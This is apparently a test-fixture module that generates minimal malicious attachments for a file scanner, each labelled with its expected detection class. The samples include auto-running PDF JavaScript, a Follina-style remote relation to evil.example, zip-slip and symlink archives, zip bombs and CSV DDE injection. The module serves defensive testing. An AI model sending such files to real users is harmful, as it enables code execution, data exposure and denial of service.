"""Files of bytes that attack whoever opens them: each made as small as it can be, by the name of its technique."""

import io
import struct
import zipfile
from collections.abc import Callable

import pikepdf
from PIL import Image

TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/></Types>'
)
RELATION = (
    '<Relationships><Relationship Id="r1" Type="http://schemas/{type}" Target="{to}" TargetMode="External"/>'
    "</Relationships>"
)
DOCX = {"[Content_Types].xml": TYPES, "word/document.xml": "<w/>"}


def packed(parts: dict[str, str | bytes], kind: int = zipfile.ZIP_DEFLATED, **attributes: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", kind) as archive:
        for name, data in parts.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = kind
            for key, value in attributes.items():
                setattr(info, key, value)
            archive.writestr(info, data)
    return out.getvalue()


def docx(parts: dict[str, str | bytes]) -> bytes:
    return packed({**DOCX, **parts})


def pdf(act: Callable[[pikepdf.Pdf], None] = lambda _: None, **saving: object) -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        act(document)
        document.save(out, **saving)  # type: ignore[arg-type]
    return out.getvalue()


def opening(document: pikepdf.Pdf, kind: str = "/JavaScript") -> None:
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name(kind), JS=pikepdf.String("app.alert(1)"))


def embedded(document: pikepdf.Pdf) -> None:
    document.attachments["x.exe"] = b"MZ"


def picture(form: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (2, 2)).save(out, form)
    return out.getvalue()


def odt(kind: str = "application/vnd.oasis.opendocument.text", **parts: str) -> bytes:
    return packed(
        {"mimetype": kind, "content.xml": "<x/>", **{key.replace("__", "/"): each for key, each in parts.items()}}
    )


def overlapping() -> bytes:
    """Many members that share the bytes of one (Fifield's bomb): the directory names one place again and again."""
    data = bytearray(packed({f"{number}.txt": "a" * 1000 for number in range(4)}))
    at = data.index(b"PK\x01\x02")
    for _ in range(4):
        data[at + 42 : at + 46] = struct.pack("<I", 0)
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


HTML = b"<!doctype html><script>__ran(1)</script>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='__ran(1)'/>"
CONTENTS, ACTIVE, BOMB = "attachment-contents", "attachment-active", "attachment-bomb"

PARCELS: dict[str, tuple[str, Callable[[], bytes], str | tuple[str, ...]]] = {
    "plain PDF": ("a.pdf", pdf, ""),
    "plain DOCX": ("a.docx", lambda: docx({}), ""),
    "DOCX with a link": (
        "a.docx",
        lambda: docx({"word/_rels/document.xml.rels": RELATION.format(type="hyperlink", to="https://a.example/")}),
        "",
    ),
    "plain ODT": ("a.odt", odt, ""),
    "plain ZIP": ("a.zip", lambda: packed({"a/b.pdf": "%PDF-"}), ""),
    "plain CSV": ("a.csv", lambda: b"a,b\r\n-5,+62 812\r\n", ""),
    "plain PNG": ("a.png", lambda: picture("PNG"), ""),
    "HTML named PDF": ("a.pdf", lambda: HTML, CONTENTS),
    "HTML named PNG": ("a.png", lambda: HTML, CONTENTS),
    "SVG named PNG": ("a.png", lambda: SVG, CONTENTS),
    "SVG named JPEG": ("a.jpg", lambda: SVG, CONTENTS),
    "GIF named PNG": ("a.png", lambda: picture("GIF"), CONTENTS),
    "JPEG named PNG": ("a.png", lambda: picture("JPEG"), CONTENTS),
    "program named PDF": ("a.pdf", lambda: b"MZ\x90\0", CONTENTS),
    "program named TXT": ("a.txt", lambda: b"MZ\x90\0\x03", CONTENTS),
    "script named TXT": ("a.txt", lambda: b"#!/bin/sh\nid\n", CONTENTS),
    "HTML named TXT": ("a.txt", lambda: HTML, CONTENTS),
    "HTML named CSV": ("a.csv", lambda: b"\xef\xbb\xbf  " + HTML, CONTENTS),
    "SVG named ICS": ("a.ics", lambda: SVG, CONTENTS),
    "PHP named TXT": ("a.txt", lambda: b"<?php system('id');", CONTENTS),
    "empty PDF": ("a.pdf", lambda: b"", CONTENTS),
    "empty ZIP": ("a.zip", lambda: b"PK\x05\x06" + bytes(18), CONTENTS),
    "GIF and PDF": ("a.pdf", lambda: b"GIF89a/*" + pdf(), CONTENTS),
    "HTML and PDF": ("a.pdf", lambda: HTML + pdf(), CONTENTS),
    "PDF and ZIP": ("a.pdf", lambda: pdf() + packed({"a.txt": "x"}), CONTENTS),
    "PDF and HTML behind": ("a.pdf", lambda: pdf() + HTML, CONTENTS),
    "PDF cut off": ("a.pdf", lambda: pdf()[:-40], CONTENTS),
    "PDF mark alone": ("a.pdf", lambda: b"%PDF-1.7\n%%EOF\n", CONTENTS),
    "GIFAR": ("a.zip", lambda: picture("GIF") + packed({"a.txt": "x"}), CONTENTS),
    "JPEG and ZIP": ("a.docx", lambda: picture("JPEG") + docx({}), CONTENTS),
    "program before a ZIP": ("a.zip", lambda: b"MZ" + bytes(100) + packed({"a.txt": "x"}), CONTENTS),
    "ZIP before a ZIP": ("a.docx", lambda: packed({"x.txt": "x"}) + docx({}), CONTENTS),
    "PDF with JavaScript": ("a.pdf", lambda: pdf(opening), ACTIVE),
    "PDF with JavaScript, packed": (
        "a.pdf",
        lambda: pdf(opening, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        ACTIVE,
    ),
    "PDF with JavaScript, name in numbers": (
        "a.pdf",
        lambda: pdf(opening).replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4a#53"),
        ACTIVE,
    ),
    "PDF that launches": ("a.pdf", lambda: pdf(lambda document: opening(document, "/Launch")), ACTIVE),
    "PDF with a file in it": ("a.pdf", lambda: pdf(embedded), ACTIVE),
    "PDF with a password": ("a.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="b")), CONTENTS),
    "DOCX with macros": ("a.docx", lambda: docx({"word/vbaProject.bin": b"x"}), ACTIVE),
    "DOCX with macros, other case": ("a.docx", lambda: docx({"word/VBAPROJECT.BIN": b"x"}), ACTIVE),
    "DOCM renamed": (
        "a.docx",
        lambda: packed(
            {**DOCX, "[Content_Types].xml": TYPES.replace("openxmlformats-officedocument.", "ms-word.macroEnabled.")}
        ),
        ACTIVE,
    ),
    "DOCX with a template from elsewhere": (
        "a.docx",
        lambda: docx(
            {"word/_rels/settings.xml.rels": RELATION.format(type="attachedTemplate", to="https://evil.example/x.dotm")}
        ),
        ACTIVE,
    ),
    "DOCX with a picture from elsewhere": (
        "a.docx",
        lambda: docx({"word/_rels/document.xml.rels": RELATION.format(type="image", to="https://evil.example/x.png")}),
        ACTIVE,
    ),
    "DOCX with a link to a share": (
        "a.docx",
        lambda: docx({"word/_rels/document.xml.rels": RELATION.format(type="hyperlink", to="file://evil.example/x")}),
        ACTIVE,
    ),
    "DOCX with MHTML (Follina)": (
        "a.docx",
        lambda: docx(
            {"word/_rels/document.xml.rels": RELATION.format(type="oleObject", to="mhtml:https://evil.example/x!x")}
        ),
        ACTIVE,
    ),
    "DOCX with an object": ("a.docx", lambda: docx({"word/embeddings/oleObject1.bin": b"x"}), ACTIVE),
    "DOCX with ActiveX": ("a.docx", lambda: docx({"word/activeX/activeX1.xml": "x"}), ACTIVE),
    "DOCX with a document type (XXE)": (
        "a.docx",
        lambda: packed({**DOCX, "[Content_Types].xml": "<!DOCTYPE x>" + TYPES}),
        ACTIVE,
    ),
    "XLSX with Excel 4 macros": (
        "a.xlsx",
        lambda: packed({"[Content_Types].xml": TYPES, "xl/workbook.xml": "<x/>", "xl/macrosheets/sheet1.xml": "<x/>"}),
        ACTIVE,
    ),
    "XLSX with a book from elsewhere": (
        "a.xlsx",
        lambda: packed(
            {"[Content_Types].xml": TYPES, "xl/workbook.xml": "<x/>", "xl/externalLinks/externalLink1.xml": "<x/>"}
        ),
        ACTIVE,
    ),
    "XLSX named DOCX": ("a.docx", lambda: packed({"[Content_Types].xml": TYPES, "xl/workbook.xml": "<x/>"}), CONTENTS),
    "ZIP named DOCX": ("a.docx", lambda: packed({"a.txt": "x"}), CONTENTS),
    "ODT with Basic": ("a.odt", lambda: odt(Basic__Standard__x_xml="x"), ACTIVE),
    "ODT with scripts": ("a.odt", lambda: odt(Scripts__python__x="x"), ACTIVE),
    "ODS named ODT": ("a.odt", lambda: odt("application/vnd.oasis.opendocument.spreadsheet"), CONTENTS),
    "ZIP with a program": ("a.zip", lambda: packed({"a.exe": "MZ"}), ACTIVE),
    "ZIP with a page": ("a.zip", lambda: packed({"a.html": "x"}), ACTIVE),
    "ZIP with a shortcut": ("a.zip", lambda: packed({"a.pdf.lnk": "x"}), ACTIVE),
    "ZIP in a ZIP": ("a.zip", lambda: packed({"a.zip": packed({"b.txt": "x"})}), ACTIVE),
    "ZIP that climbs (zip slip)": ("a.zip", lambda: packed({"../../a.txt": "x"}), ACTIVE),
    "ZIP with an absolute path": ("a.zip", lambda: packed({"/etc/a.txt": "x"}), ACTIVE),
    "ZIP with a drive": ("a.zip", lambda: packed({"C:/a.txt": "x"}), ACTIVE),
    "ZIP with backslashes": ("a.zip", lambda: packed({"a.txt": "x"}).replace(b"a.txt", b"\\.txt"), ACTIVE),
    "ZIP with a link": (
        "a.zip",
        lambda: packed({"a.txt": "/etc/passwd"}, external_attr=0o120777 << 16, create_system=3),
        ACTIVE,
    ),
    "ZIP with names that differ in case": ("a.zip", lambda: packed({"a.txt": "x", "A.txt": "y"}), ACTIVE),
    "ZIP bomb": ("a.zip", lambda: packed({"a.txt": bytes(60_000_000)}), BOMB),
    "DOCX bomb": ("a.docx", lambda: docx({"word/media/a.png": bytes(60_000_000)}), BOMB),
    "ZIP bomb of many": (
        "a.zip",
        lambda: packed({f"{number}.txt": "" for number in range(6000)}, zipfile.ZIP_STORED),
        BOMB,
    ),
    "ZIP bomb that overlaps": ("a.zip", overlapping, (BOMB, CONTENTS)),
    "ZIP cut off": ("a.zip", lambda: packed({"a.txt": "x"})[:-8], CONTENTS),
    "CSV with a formula": ("a.csv", lambda: b'a,b\r\n1,=HYPERLINK("http://evil.example")\r\n', ACTIVE),
    "CSV with DDE": ("a.csv", lambda: b"a;b\r\n1;+cmd|' /C calc'!A0\r\n", ACTIVE),
    "CSV with a quoted formula": ("a.csv", lambda: b'"=1+1"\r\n', ACTIVE),
    "CSV of UTF-16": ("a.csv", lambda: "=1+1".encode("utf-16"), CONTENTS),
}
